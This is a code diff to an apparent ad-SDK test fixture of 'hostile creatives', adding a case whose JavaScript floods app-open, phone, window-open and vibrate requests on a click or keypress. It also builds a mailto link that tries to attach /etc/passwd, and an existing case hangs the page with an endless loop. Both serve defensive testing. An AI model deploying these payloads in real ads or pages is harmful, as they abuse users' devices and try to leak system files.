@@ -79,6 +79,20 @@ std::string attack(HostileCreatives::Kind kind, const std::string& clickURL, con
     case Kind::HangsItsPage:
       return "setTimeout(function(){document.title='hanging';while(true){}}," +
              std::to_string(HostileCreatives::kActAfterMilliseconds) + ");";
+    case Kind::AsksForManyOnAClick:
+      // The link is followed as well: that is one more ask.
+      return "function many(){"
+             "for(var k=0;k<5;k++)send('gmsg://ads.example.test/open?a=app&u='+encodeURIComponent('tel:55500'+k));"
+             "for(var k=0;k<10;k++)send('tel:55510'+k);"
+             "for(var k=0;k<4;k++)send(" + landing + "+'?frame='+k);"
+             "for(var k=0;k<3;k++)send('gmsg://ads.example.test/open?a=browser&u='+encodeURIComponent(" + landing +
+             "));"
+             "for(var k=0;k<5;k++){try{window.open(" + landing + "+'?window='+k);}catch(e){}}"
+             "send('gmsg://ads.example.test/open?a=app&u='+encodeURIComponent('mailto:x@example.test?attach=/etc/passwd'));"
+             "for(var k=0;k<5;k++)send('gmsg://ads.example.test/vibrate');}"
+             "document.getElementById('ad').addEventListener('click',function(){many();"
+             "setTimeout(many,200);setTimeout(function(){many();location.href=" + landing + "+'?moved';},600);});"
+             "document.addEventListener('keydown',function(){many();});";
   }
   return "";
 }
@@ -97,6 +111,7 @@ std::string HostileCreatives::name(Kind kind) {
     case Kind::ReadsTheAdFromALandingPage: return "reads-the-ad-from-a-landing-page";
     case Kind::ShowsDialogs: return "shows-dialogs";
     case Kind::HangsItsPage: return "hangs-its-page";
+    case Kind::AsksForManyOnAClick: return "asks-for-many-on-a-click";
   }
   return "none";
 }
@@ -104,7 +119,7 @@ std::string HostileCreatives::name(Kind kind) {
 std::vector<HostileCreatives::Kind> HostileCreatives::all() {
   return {Kind::LeavesTheApplication, Kind::StacksScreens,  Kind::FloodsMessages, Kind::NavigatesItself,
           Kind::BorrowsOurScripts,    Kind::HugeHeaders,    Kind::ReadsTheAdFromALandingPage,
-          Kind::ShowsDialogs,         Kind::HangsItsPage};
+          Kind::ShowsDialogs,         Kind::HangsItsPage,   Kind::AsksForManyOnAClick};
 }
 
 std::optional<HostileCreatives::Kind> HostileCreatives::fromName(std::string_view text) {
